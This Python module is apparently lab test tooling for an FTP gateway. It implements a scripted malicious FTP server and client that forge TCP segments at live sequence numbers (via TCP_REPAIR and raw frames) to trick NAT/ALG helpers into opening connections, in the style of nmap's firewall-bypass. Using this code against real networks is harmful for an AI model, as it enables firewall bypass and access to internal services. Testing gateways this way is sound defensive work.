"""Hostile parties for the lab's attack tests: a listener that records every connection it
accepts, a scripted FTP server that says what it is told and connects back to whatever a
PORT names, and a step-by-step FTP client that can also forge a segment of its own control
connection as if the server had sent it (nmap's firewall-bypass.nse). Sequence numbers of a
connection come from its own socket (TCP_REPAIR), so root (CAP_NET_ADMIN) is needed, as for
the raw frames.

Each runs as ``python -m ftpalg.lab.hostile (listen | server | client | frame) ...`` inside a lab
namespace; ``Listener``, ``ScriptedServer`` and ``Driver`` start and drive them from a test.
Not for production paths.

* ``listen ADDR:PORT ...``: binds every endpoint (IPv4), prints ``ready``, then one line
  ``accepted ADDR:PORT from PEER:PORT`` per connection (it sends ``hello`` and closes).
* ``server ADDR PORT ROOT [--pasv REPLY]... [--after-login LINE]...``: anonymous login;
  ``PASV`` answers with the next ``--pasv`` reply verbatim (``real`` or none left: a real
  passive listener on ADDR); the ``--after-login`` lines follow the ``230``, each in a
  segment of its own (replies that answer nothing); ``PORT`` stores the target and ``RETR``
  connects to the address it names, then to the control connection's peer at the same port (what a
  server that ignores the address does), sends the file over the first that answers and
  prints each attempt. With ``--forge IFACE MAC CLIENT_ADDR``, ``SITE FORGE PORT`` makes it
  forge its client's next segment, a ``PORT CLIENT_ADDR,PORT``, into the gateway (frame to
  MAC on IFACE), then connect to the gateway's public address at that port (a malicious
  server reaching a service of its client).
* ``client HOST PORT --source ADDR``: reads steps from standard input, answers each with one
  line on standard output: ``send TEXT``, ``cmd TEXT`` (send, read the reply), ``reply``,
  ``connect ADDR PORT``, ``pasv-retr NAME``,
  ``port-retr NAME``, ``spoof IFACE MAC SRC SPORT TEXT`` (a segment from SRC:SPORT to this
  client's own control socket, at the exact sequence numbers the connection is at, sent as
  an Ethernet frame to MAC: the gateway takes it for the server's), ``spoof-after CMD IFACE
  ...`` (the command CMD first, see ``_Client.spoof``), ``quit``.
* ``frame IFACE MAC TEXT SRC:SPORT>DST:DPORT ...``: forged segments of no connection.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import re
import select
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

from .lab import Lab, LabError, stop_processes

TIMEOUT = 2.0
_HOSTPORT = re.compile(r"(\d+),(\d+),(\d+),(\d+),(\d+),(\d+)")
# <linux/tcp.h>: read the sequence numbers of a connected socket
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
TCP_RECV_QUEUE, TCP_SEND_QUEUE = 1, 2


def hostport(text: str) -> tuple[str, int]:
    """(address, port) of the first ``h1,h2,h3,h4,p1,p2`` in a PORT argument or 227 reply."""
    m = _HOSTPORT.search(text)
    if m is None:
        raise ValueError(f"no host-port in {text!r}")
    n = [int(x) for x in m.groups()]
    return ".".join(map(str, n[:4])), n[4] * 256 + n[5]


def tcp_seqs(s: socket.socket) -> tuple[int, int]:
    """(next seq expected from the peer, next seq this side sends) of a connected socket:
    TCP_REPAIR reads them from the kernel (CAP_NET_ADMIN), no capture needed."""
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    try:
        out = []
        for queue in (TCP_RECV_QUEUE, TCP_SEND_QUEUE):
            s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
            out.append(struct.unpack("I", s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, 4))[0])
    finally:
        s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 0)
    return out[0], out[1]


def pasv_text(addr: str, port: int) -> str:
    return f"227 Entering Passive Mode ({addr.replace('.', ',')},{port >> 8},{port & 255})."


def _out(text: str) -> None:
    print(text, flush=True)


# ---- listen ---------------------------------------------------------------------------------
def listen(endpoints: list[str]) -> None:
    socks = {}
    for ep in endpoints:
        addr, port = ep.rsplit(":", 1)
        s = socket.create_server((addr, int(port)), backlog=16)
        socks[s] = ep
    _out("ready")
    while True:
        for s in select.select(list(socks), [], [])[0]:
            c, peer = s.accept()
            _out(f"accepted {socks[s]} from {peer[0]}:{peer[1]}")
            with contextlib.suppress(OSError):
                c.sendall(b"hello\n")
            c.close()


# ---- server ---------------------------------------------------------------------------------
class _Session(threading.Thread):
    def __init__(self, conn: socket.socket, root: Path, addr: str, pasv: list[str], after_login: list[str],
                 forge: list[str] | None = None) -> None:
        super().__init__(daemon=True)
        self.conn, self.root, self.addr = conn, root, addr
        self.forge = forge
        self.pasv = list(pasv)
        self.after_login = after_login
        self.peer = conn.getpeername()[0]
        self.target: tuple[str, int] | None = None
        self.passive: socket.socket | None = None

    def say(self, *lines: str) -> None:
        self.conn.sendall("".join(line + "\r\n" for line in lines).encode())
        _out(f"{self.peer} <- {' | '.join(lines)}")

    def run(self) -> None:
        f = self.conn.makefile("rb")
        self.say("220 scripted server")
        try:
            for raw in f:
                line = raw.decode("latin-1").rstrip("\r\n")
                _out(f"{self.peer} -> {line}")
                verb, _, arg = line.partition(" ")
                if not self.command(verb.upper(), arg):
                    break
        except OSError as e:
            _out(f"{self.peer}: {e}")
        finally:
            self.conn.close()

    def command(self, verb: str, arg: str) -> bool:
        if verb == "USER":
            self.say("331 any password")
        elif verb == "PASS":
            self.say("230 logged in")
            for line in self.after_login:  # each in a segment of its own, where the kernel helper looks
                time.sleep(0.05)
                self.say(line)
        elif verb in ("TYPE", "NOOP", "MODE", "STRU"):
            self.say("200 ok")
        elif verb == "PASV":
            reply = self.pasv.pop(0) if self.pasv else "real"
            if reply == "real":
                if self.passive is not None:
                    self.passive.close()
                self.passive = socket.create_server((self.addr, 0))
                self.passive.settimeout(5)
                reply = pasv_text(self.addr, self.passive.getsockname()[1])
            self.say(reply)
        elif verb == "PORT":
            try:
                self.target = hostport(arg)
            except ValueError:
                self.say("501 bad PORT")
                return True
            _out(f"PORT target {self.target[0]}:{self.target[1]}")
            self.say("200 PORT ok")
        elif verb == "RETR":
            self.retr(arg)
        elif verb == "SITE" and arg.upper().startswith("FORGE ") and self.forge:
            self.forge_port(int(arg.split()[1]))
        elif verb == "QUIT":
            self.say("221 bye")
            return False
        else:
            self.say("502 not implemented")
        return True

    def forge_port(self, port: int) -> None:
        """Forge the client's next segment: ``PORT`` naming the client's private address (as
        configured) and ``port``, from that address and the client's port, at the exact
        sequence numbers, sent as a frame to the gateway's outside interface; then connect to
        the control connection's peer (the gateway's public address) at that port."""
        from scapy.layers.inet import IP, TCP
        from scapy.layers.l2 import Ether

        assert self.forge is not None
        iface, mac, private = self.forge
        rcv_nxt, snd_nxt = tcp_seqs(self.conn)
        peer_port = self.conn.getpeername()[1]
        line = f"PORT {private.replace('.', ',')},{port >> 8},{port & 255}"
        frame = (Ether(dst=mac) / IP(src=private, dst=self.addr) /
                 TCP(sport=peer_port, dport=self.conn.getsockname()[1], flags="PA", seq=rcv_nxt, ack=snd_nxt,
                     window=502) / (line + "\r\n").encode())
        send_frames(iface, [bytes(frame)])
        _out(f"forged {private}:{peer_port} > {self.addr}: {line}")
        time.sleep(0.2)
        try:
            with socket.create_connection((self.peer, port), timeout=TIMEOUT, source_address=(self.addr, 0)) as c:
                got = c.recv(100)
            self.say(f"200 forged {line}; connect {self.peer}:{port} ok {got!r}")
        except OSError as e:
            self.say(f"200 forged {line}; connect {self.peer}:{port} failed: {e}")

    def retr(self, name: str) -> None:
        path = self.root / name
        if not path.is_file():
            self.say("550 no such file")
            return
        data: socket.socket | None = None
        tried = []
        if self.passive is not None:
            try:
                data, _ = self.passive.accept()
            except OSError as e:
                tried.append(f"passive: {e}")
            self.passive.close()
            self.passive = None
        elif self.target is not None:
            host, port = self.target
            for dst in dict.fromkeys([host, self.peer]):  # the named address, then the peer's
                try:
                    data = socket.create_connection((dst, port), timeout=TIMEOUT, source_address=(self.addr, 0))
                    _out(f"connect {dst}:{port} ok")
                    break
                except OSError as e:
                    _out(f"connect {dst}:{port} failed: {e}")
                    tried.append(f"{dst}:{port}: {e}")
            self.target = None
        if data is None:
            self.say(f"425 no data connection ({'; '.join(tried) or 'no PORT or PASV'})")
            return
        self.say("150 sending")
        try:
            with data:
                data.sendall(path.read_bytes())
        except OSError as e:
            self.say(f"426 transfer aborted: {e}")
            return
        self.say("226 done")


def serve(addr: str, port: int, root: Path, pasv: list[str], after_login: list[str],
          forge: list[str] | None = None) -> None:
    ls = socket.create_server((addr, port), backlog=16)
    _out("ready")
    while True:
        conn, _ = ls.accept()
        _Session(conn, root, addr, pasv, after_login, forge).start()


# ---- forged segments -----------------------------------------------------------------------
def send_frames(iface: str, frames: list[bytes]) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((iface, 0))
        for f in frames:
            raw.send(f)


def frame(iface: str, mac: str, text: str, specs: list[str]) -> None:
    """Forged segments (PSH+ACK, arbitrary sequence numbers) of no existing connection, one
    per ``SRC:SPORT>DST:DPORT``, each carrying ``text``."""
    from scapy.layers.inet import IP, TCP
    from scapy.layers.l2 import Ether

    frames = []
    for spec in specs:
        a, b = spec.split(">")
        (src, sport), (dst, dport) = a.rsplit(":", 1), b.rsplit(":", 1)
        frames.append(bytes(Ether(dst=mac) / IP(src=src, dst=dst) /
                            TCP(sport=int(sport), dport=int(dport), flags="PA", seq=1000, ack=2000) /
                            (text + "\r\n").encode()))
        _out(f"sent {spec} {text!r}")
    send_frames(iface, frames)


# ---- client ---------------------------------------------------------------------------------
class _Client:
    def __init__(self, host: str, port: int, source: str) -> None:
        self.source = source
        self.sock = socket.create_connection((host, port), timeout=TIMEOUT * 3, source_address=(source, 0))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.f = self.sock.makefile("rb")

    def reply(self) -> str:
        lines = [self.f.readline().decode("latin-1").rstrip("\r\n")]
        if lines[0][3:4] == "-":
            while not (lines[-1][:3] == lines[0][:3] and lines[-1][3:4] == " "):
                line = self.f.readline().decode("latin-1")
                if not line:
                    break
                lines.append(line.rstrip("\r\n"))
        return " | ".join(lines)

    def cmd(self, text: str) -> str:
        self.sock.sendall(text.encode("latin-1") + b"\r\n")
        return self.reply()

    def connect(self, addr: str, port: int) -> str:
        try:
            with socket.create_connection((addr, port), timeout=TIMEOUT, source_address=(self.source, 0)) as s:
                got = s.recv(100)
            return f"connected {got!r}"
        except OSError as e:
            return f"failed {e}"

    def _drain(self, data: socket.socket) -> str:
        h = hashlib.sha256()
        with data:
            data.settimeout(TIMEOUT * 3)
            while chunk := data.recv(65536):
                h.update(chunk)
        end = self.reply()
        return h.hexdigest() if end.startswith("226") else f"failed {end}"

    def pasv_retr(self, name: str) -> str:
        resp = self.cmd("PASV")
        if not resp.startswith("227"):
            return f"failed {resp}"
        try:
            data = socket.create_connection(hostport(resp), timeout=TIMEOUT, source_address=(self.source, 0))
        except OSError as e:
            return f"failed {resp}: {e}"
        resp = self.cmd(f"RETR {name}")
        if not resp.startswith("150"):
            data.close()
            return f"failed {resp}"
        return self._drain(data)

    def port_retr(self, name: str) -> str:
        with socket.create_server((self.source, 0)) as ls:
            ls.settimeout(TIMEOUT * 3)
            p = ls.getsockname()[1]
            resp = self.cmd(f"PORT {self.source.replace('.', ',')},{p >> 8},{p & 255}")
            if not resp.startswith("200"):
                return f"failed {resp}"
            resp = self.cmd(f"RETR {name}")
            if not resp.startswith("150"):
                return f"failed {resp}"
            try:
                data, _ = ls.accept()
            except OSError as e:
                return f"failed {e}"
        return self._drain(data)

    def seqs(self) -> tuple[int, int]:
        return tcp_seqs(self.sock)

    def spoof(self, iface: str, mac: str, src: str, sport: int, text: str, after: str = "") -> str:
        """Forge the segment that continues the server's side of this connection (``text``
        from ``src``:``sport``), sent as a frame to ``mac`` on ``iface``. With ``after``: that
        command goes first, also as a frame (this socket's kernel never learns of it), with a
        zero receive window: the server cannot answer it before the forged reply arrives."""
        from scapy.layers.inet import IP, TCP
        from scapy.layers.l2 import Ether

        rcv_nxt, snd_nxt = self.seqs()
        me, myport = self.sock.getsockname()[:2]
        server, server_port = self.sock.getpeername()[:2]
        frames = []
        if after:
            cmd = (after + "\r\n").encode("latin-1")
            frames.append(Ether(dst=mac) / IP(src=me, dst=server) /
                          TCP(sport=myport, dport=server_port, flags="PA", seq=snd_nxt, ack=rcv_nxt, window=0) / cmd)
        frames.append(Ether(dst=mac) / IP(src=src, dst=me) /
                      TCP(sport=sport, dport=myport, flags="PA", seq=rcv_nxt, ack=snd_nxt, window=502) /
                      (text + "\r\n").encode())
        send_frames(iface, [bytes(f) for f in frames])
        return f"spoofed seq={rcv_nxt} {src}:{sport} > {me}:{myport}" + (f" right after {after}" if after else "")

    def step(self, line: str) -> str:
        verb, _, arg = line.partition(" ")
        if verb == "send":
            self.sock.sendall(arg.encode("latin-1") + b"\r\n")
            return "sent"
        if verb == "cmd":
            return self.cmd(arg)
        if verb == "reply":
            return self.reply()
        if verb == "connect":
            addr, port = arg.split()
            return self.connect(addr, int(port))
        if verb == "pasv-retr":
            return self.pasv_retr(arg)
        if verb == "port-retr":
            return self.port_retr(arg)
        if verb in ("spoof", "spoof-after"):  # spoof-after: the command (one word) first
            after, rest = arg.split(" ", 1) if verb == "spoof-after" else ("", arg)
            iface, mac, src, sport, text = rest.split(" ", 4)
            return self.spoof(iface, mac, src, int(sport), text, after)
        if verb == "quit":
            return self.cmd("QUIT")
        return f"unknown step {verb!r}"


def client(host: str, port: int, source: str) -> None:
    c = _Client(host, port, source)
    _out(c.reply())
    for line in sys.stdin:
        try:
            _out(c.step(line.rstrip("\n")))
        except OSError as e:
            _out(f"error {e}")


# ---- from a test ----------------------------------------------------------------------------
def _argv(*args: str) -> list[str]:
    return [sys.executable, "-m", "ftpalg.lab.hostile", *args]


def _wait_line(path: Path, want: str, proc: subprocess.Popen[bytes], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if path.exists() and want in path.read_text(errors="replace"):
            return
        if proc.poll() is not None:
            break
        time.sleep(0.02)
    raise LabError(f"{proc.args!r} did not print {want!r}: {path.read_text(errors='replace') if path.exists() else ''}")


class _Background:
    """A hostile process in a lab namespace, output to a file in the lab's state directory."""

    def __init__(self, lab: Lab, ns: str, name: str, argv: list[str]) -> None:
        self.lab = lab
        self.log = lab.state / f"hostile-{name}.log"
        self.log.unlink(missing_ok=True)
        self.proc = lab.popen(ns, argv, self.log)
        try:
            _wait_line(self.log, "ready", self.proc)
        except BaseException:
            self.stop()
            raise

    def lines(self) -> list[str]:
        return self.log.read_text(errors="replace").splitlines() if self.log.exists() else []

    def stop(self) -> None:
        stop_processes([self.proc])
        if self.proc in self.lab.procs:
            self.lab.procs.remove(self.proc)

    def __enter__(self) -> _Background:
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()


class Listener(_Background):
    """Listens on every (address, port) in ``ns``; ``accepted()``: what connected."""

    def __init__(self, lab: Lab, ns: str, endpoints: list[tuple[str, int]], name: str = "listener") -> None:
        super().__init__(lab, ns, name, _argv("listen", *[f"{a}:{p}" for a, p in endpoints]))

    def accepted(self, expect: int = 0, timeout: float = 3.0, settle: float = 0.2) -> list[str]:
        """The connections accepted so far: once at least ``expect`` were (up to ``timeout``
        seconds), or ``settle`` seconds from now (one on its way gets printed)."""
        deadline = time.monotonic() + (timeout if expect else settle)
        while True:
            got = [line for line in self.lines() if line.startswith("accepted ")]
            if (expect and len(got) >= expect) or time.monotonic() >= deadline:
                return got
            time.sleep(0.02)


class ScriptedServer(_Background):
    """The scripted FTP server on ``addr``:``port`` in ``ns``, serving the lab's files."""

    def __init__(self, lab: Lab, ns: str, addr: str, port: int = 21, pasv: tuple[str, ...] = (),
                 after_login: tuple[str, ...] = (), forge: tuple[str, str, str] | None = None,
                 name: str = "server") -> None:
        args = ["server", addr, str(port), str(lab.files)]
        args += [a for r in pasv for a in ("--pasv", r)] + [a for r in after_login for a in ("--after-login", r)]
        args += ["--forge", *forge] if forge else []
        super().__init__(lab, ns, name, _argv(*args))


class Driver:
    """A step-by-step FTP client in ``ns`` (``step`` sends one step, returns its answer line);
    connected and greeted once constructed."""

    def __init__(self, lab: Lab, ns: str, host: str, source: str, port: int = 21, timeout: float = 15.0) -> None:
        self.timeout = timeout
        self.proc = subprocess.Popen(["ip", "netns", "exec", ns, *_argv("client", host, str(port), "--source", source)],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.greeting = self._line()

    def _line(self) -> str:
        assert self.proc.stdout is not None
        if not select.select([self.proc.stdout], [], [], self.timeout)[0]:
            self.close()
            raise LabError(f"hostile client: no answer within {self.timeout} s")
        line = self.proc.stdout.readline()
        if not line:
            self.close()
            raise LabError("hostile client exited")
        return line.rstrip("\n")

    def step(self, text: str) -> str:
        assert self.proc.stdin is not None
        self.proc.stdin.write(text + "\n")
        self.proc.stdin.flush()
        return self._line()

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
        self.proc.wait(5)
        for f in (self.proc.stdin, self.proc.stdout):
            if f is not None:
                f.close()

    def __enter__(self) -> Driver:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def mac_of(lab: Lab, ns: str, dev: str) -> str:
    """The Ethernet address of ``dev`` in ``ns``."""
    return lab.ns(ns, ["cat", f"/sys/class/net/{dev}/address"]).stdout.strip()


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m ftpalg.lab.hostile")
    sub = ap.add_subparsers(dest="what", required=True)
    p = sub.add_parser("listen")
    p.add_argument("endpoints", nargs="+")
    p = sub.add_parser("server")
    p.add_argument("addr")
    p.add_argument("port", type=int)
    p.add_argument("root", type=Path)
    p.add_argument("--pasv", action="append", default=[])
    p.add_argument("--after-login", action="append", default=[])
    p.add_argument("--forge", nargs=3, metavar=("IFACE", "MAC", "CLIENT_ADDR"))
    p = sub.add_parser("client")
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--source", required=True)
    p = sub.add_parser("frame")
    for name in ("iface", "mac", "text"):
        p.add_argument(name)
    p.add_argument("specs", nargs="+")
    a: Any = ap.parse_args(argv)
    if a.what == "listen":
        listen(a.endpoints)
    elif a.what == "server":
        serve(a.addr, a.port, a.root, a.pasv, a.after_login, a.forge)
    elif a.what == "frame":
        frame(a.iface, a.mac, a.text, a.specs)
    else:
        client(a.host, a.port, a.source)
    return 0


if __name__ == "__main__":
    sys.exit(main())
